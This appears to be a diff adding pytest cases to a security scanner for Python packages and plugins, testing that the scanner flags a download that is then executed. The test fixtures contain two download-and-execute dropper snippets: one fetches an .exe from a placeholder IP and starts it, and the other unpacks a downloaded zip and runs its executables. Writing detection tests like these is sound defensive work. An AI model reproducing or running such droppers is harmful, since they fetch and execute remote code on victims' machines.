@@ -314,3 +314,52 @@ def test_a_config_folder_written_through_pathlib_is_no_persistence() -> None:
     (Path.home() / ".config" / "systemd").mkdir(exist_ok=True)
     """
     assert "CPL-THR-009" not in anywhere(source)
+
+
+# -- blind13: a download copied by shutil.copyfileobj; a program found by a glob ------------
+
+_COPIED_OR_GLOBBED = {
+    "copyfileobj": """
+    import os, shutil, urllib.request
+    p = os.path.join(os.environ["TEMP"], "upd.exe")
+    with urllib.request.urlopen("http://203.0.113.66/e.bin") as r, open(p, "wb") as f:
+        shutil.copyfileobj(r, f)
+    os.startfile(p)
+    """,
+    "glob-under-extracted": """
+    import glob, io, os, subprocess, zipfile, requests
+    d = os.path.join(os.getenv("TEMP", "/tmp"), "hk")
+    zipfile.ZipFile(io.BytesIO(requests.get("https://files.example/p.zip").content)).extractall(d)
+    for exe in glob.glob(os.path.join(d, "*.exe")):
+        subprocess.Popen([exe], cwd=d)
+    """,
+}
+
+
+@pytest.mark.parametrize("shape", sorted(_COPIED_OR_GLOBBED))
+@pytest.mark.parametrize("mode", [ScanMode.PACKAGE, ScanMode.PLUGIN])
+def test_a_download_copied_or_unpacked_then_started_is_a_threat(shape: str, mode: ScanMode) -> None:
+    found = scan_source(textwrap.dedent(_COPIED_OR_GLOBBED[shape]), "mod.py", mode=mode)
+    assert "CPL-THR-002" in {f.rule_id for f in found if f.severity is Severity.DANGER}
+
+
+@pytest.mark.parametrize("shape", sorted(_COPIED_OR_GLOBBED))
+def test_the_prefilter_keeps_a_download_copied_or_unpacked_then_started(
+    shape: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    source = textwrap.dedent(_COPIED_OR_GLOBBED[shape])
+    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-002")
+
+
+def test_a_download_copied_and_a_packaged_program_globbed_are_not() -> None:
+    # a download copied into a data file that is never started, and the package's own
+    # programs found by a glob and run (the archive unpacked elsewhere)
+    source = """
+    import glob, os, shutil, subprocess, urllib.request, zipfile
+    with urllib.request.urlopen("https://example.org/data.json") as r, open("d.json", "wb") as f:
+        shutil.copyfileobj(r, f)
+    zipfile.ZipFile("docs.zip").extractall("build/docs")
+    for tool in glob.glob(os.path.join(os.path.dirname(__file__), "bin", "*")):
+        subprocess.run([tool, "--version"])
+    """
+    assert {r for r in anywhere(source) if r.startswith("CPL-THR")} == set()
